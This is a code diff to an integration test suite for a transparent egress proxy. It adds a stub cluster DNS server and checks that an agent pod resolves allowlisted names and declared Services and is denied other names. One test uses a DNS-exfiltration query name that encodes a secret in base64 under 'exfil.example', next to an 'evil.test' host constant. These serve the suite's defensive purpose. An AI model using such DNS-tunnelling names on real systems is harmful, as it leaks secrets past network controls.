@@ -34,6 +34,12 @@ const UP_V6 = 'fd42:233::1';
 const UP_SUBNET = '10.233.0.0/24';
 
 const HOST = 'api.example.test';
+/** A declared in-cluster Service (contract egress.inClusterHosts) and the address the cluster's DNS gives it. */
+const SERVICE = 'nats.infra.svc';
+const SERVICE_IP = '10.96.7.7';
+/** The pod's resolver as its resolv.conf names it (a cluster DNS Service address): nothing listens there. */
+const POD_RESOLVER = '10.233.0.53';
+const SEARCH = 'default.svc.cluster.local svc.cluster.local cluster.local';
 const EVIL = 'evil.test';
 const REAL = 'sk-real-TransparentValue-0123456789abcdef';
 const STUB = 'agent-smith-stub-TTTTrrrrAAAAnnnnSSSSppppAAAArrrrEEEEnnnn4242';
@@ -114,6 +120,29 @@ if (spec.proto === 'udp') {
   s.on('end', () => done({ ok: true, reply }));
   s.on('error', (e) => done({ ok: false, code: e.code, reply }));
 }
+`;
+
+/**
+ * The cluster's DNS, in the upstream namespace (run as root there, UDP port 53 on every
+ * address): answers A for HOST and the declared Service's cluster.local name, NXDOMAIN for
+ * everything else, and prints every query name it receives as a JSON line.
+ */
+const DNS_JS = `
+import dgram from 'node:dgram';
+const [packetUrl, host, hostIp, service, serviceIp] = process.argv.slice(2);
+const dnsPacket = (await import(packetUrl)).default;
+const records = { [host]: hostIp, [service + '.cluster.local']: serviceIp };
+const out = (o) => process.stdout.write(JSON.stringify(o) + '\\n');
+const s = dgram.createSocket({ type: 'udp6', ipv6Only: false });
+s.on('message', (msg, r) => {
+  const q = dnsPacket.decode(msg);
+  const question = q.questions[0];
+  out({ kind: 'query', name: question.name.toLowerCase(), type: question.type });
+  const ip = records[question.name.toLowerCase()];
+  const answers = ip && question.type === 'A' ? [{ type: 'A', class: 'IN', name: question.name, ttl: 30, data: ip }] : [];
+  s.send(dnsPacket.encode({ type: 'response', id: q.id, flags: (ip ? 0 : 3) | dnsPacket.RECURSION_AVAILABLE, questions: [question], answers }), r.port, r.address);
+});
+s.bind(53, '::', () => out({ kind: 'ready' }));
 `;
 
 interface Run {
@@ -224,6 +253,9 @@ let scratch = '';
 let clientJs = '';
 let upstream: Child | undefined;
 let proxy: Child | undefined;
+let clusterDns: Child | undefined;
+/** A pod whose /etc/resolv.conf is a Kubernetes pod's: POD_RESOLVER, the search list, ndots:5. */
+let agentPod: PodFiles | undefined;
 const pods: PodFiles[] = [];
 let agentCaFile = '';
 let upstreamCaFile = '';
@@ -307,6 +339,14 @@ beforeAll(async () => {
     'upstream',
   );
   const ready = await upstream.waitFor((l) => l.kind === 'ready');
+  const dnsJs = join(scratch, 'dns.mjs');
+  await writeFile(dnsJs, DNS_JS, { mode: 0o644 });
+  clusterDns = startChild(
+    inNs(UP_NS, undefined, [process.execPath, dnsJs, pathToFileURL(join(ROOT, 'node_modules/dns-packet/index.js')).href, HOST, UP_V4, SERVICE, SERVICE_IP]),
+    { ...process.env, PATH: SBIN_PATH },
+    'cluster DNS',
+  );
+  await clusterDns.waitFor((l) => l.kind === 'ready');
   upstreamCaFile = join(scratch, 'upstream-ca.pem');
   await writeFile(upstreamCaFile, String(ready.caPem), { mode: 0o644 });
 
@@ -329,10 +369,14 @@ beforeAll(async () => {
   // but the proxy's is redirected) and only the proxy's contract opens the test subnet.
   const initPod = await readablePod(testContract({ egress: { allow: [HOST], allowCidrs: [], enforcement: 'iptables', proxyPort: PROXY_PORT, credentials: [credential] } }));
   // The proxy resolves the upstream's names from its pod's /etc/hosts.
-  const proxyPod = await readablePod(testContract({ egress: { allow: [HOST], allowCidrs: [UP_SUBNET], enforcement: 'iptables', proxyPort: PROXY_PORT, credentials: [credential] } }), {
-    [HOST]: [UP_V4],
-    [EVIL]: [UP_V4],
-  });
+  const proxyPod = await readablePod(
+    testContract({ egress: { allow: [HOST], allowCidrs: [UP_SUBNET], enforcement: 'iptables', proxyPort: PROXY_PORT, inClusterHosts: [SERVICE], credentials: [credential] } }),
+    { [HOST]: [UP_V4], [EVIL]: [UP_V4] },
+  );
+  // The proxy's DNS listener asks the cluster's DNS (its UID may) and knows the search list.
+  await writeFile(proxyPod.path('/etc/resolv.conf'), `search ${SEARCH}\nnameserver ${UP_V4}\noptions ndots:5\n`, { mode: 0o644 });
+  agentPod = await readablePod(testContract());
+  await writeFile(agentPod.path('/etc/resolv.conf'), `search ${SEARCH}\nnameserver ${POD_RESOLVER}\noptions ndots:5 timeout:2 attempts:1\n`, { mode: 0o644 });
 
   initRun = await exec('ip', inNs(POD_NS, undefined, [process.execPath, CLI, 'egress-init'], initPod), {
     ...initPod.env,
@@ -374,7 +418,7 @@ beforeAll(async () => {
 }, 90_000);
 
 afterAll(async () => {
-  for (const c of [proxy, upstream]) {
+  for (const c of [proxy, upstream, clusterDns]) {
     if (c && c.proc.exitCode === null && c.proc.signalCode === null) {
       const exited = new Promise((r) => c.proc.once('exit', r));
       c.proc.kill('SIGKILL');
@@ -454,6 +498,38 @@ describe('transparent egress: egress-init rules + the real proxy in a pod networ
     expect(await client(AGENT_UID, { proto: 'udp', host, port: UDP_PORT, payload })).toMatchObject({ ok: false, code: 'EPERM' });
     await sleep(200);
     expect((await dump()).events.some((e) => e.data === payload)).toBe(false);
+  });
+
+  describe("DNS: the pod's resolver is the proxy", () => {
+    /** `getent ahostsv4 name` as UID 1000 with a Kubernetes pod's resolv.conf (glibc: search list, ndots:5). */
+    const getent = (name: string) => exec('ip', inNs(POD_NS, AGENT_UID, ['getent', 'ahostsv4', name], agentPod), { PATH: SBIN_PATH });
+    const asked = () => clusterDns!.lines.filter((l) => l.kind === 'query').map((l) => String(l.name));
+
+    it('UID 1000 resolves an allowed name through the pod resolver: the proxy asks the cluster DNS for the name alone, never its search expansions', async () => {
+      const r = await getent(HOST);
+      expect(r.code, r.stderr).toBe(0);
+      expect(r.stdout).toContain(UP_V4);
+      expect(asked()).toContain(HOST);
+      expect(asked().filter((n) => n.startsWith(`${HOST}.`))).toEqual([]);
+    });
+
+    it('UID 1000 resolves a declared in-cluster Service by its short name (search list) to its cluster IP', async () => {
+      const r = await getent(SERVICE);
+      expect(r.code, r.stderr).toBe(0);
+      expect(r.stdout).toContain(SERVICE_IP);
+      expect(asked()).toContain(`${SERVICE}.cluster.local`);
+    });
+
+    it('UID 1000 gets NXDOMAIN for a name outside the allowlist, the cluster DNS never sees it, and the proxy writes one audit line', async () => {
+      const name = 'c2VjcmV0LXZhbHVl.exfil.example';
+      const r = await getent(name);
+      // getent: 2 = the name was not found (NXDOMAIN, not a timeout, which glibc reports alike but slowly).
+      expect(r.code).toBe(2);
+      expect(asked().filter((n) => n.includes('exfil'))).toEqual([]);
+      const line = await proxy!.waitFor((l) => l.audit === true && l.mode === 'dns', 5000);
+      expect(line).toMatchObject({ host: name.toLowerCase(), decision: 'deny', reason: 'not_allowed' });
+      expect(audits().filter((l) => l.mode === 'dns')).toHaveLength(1);
+    });
   });
 
   it('the same request as the proxy UID 1337 goes direct: the upstream certificate, the stub unswapped, no proxy audit', async () => {
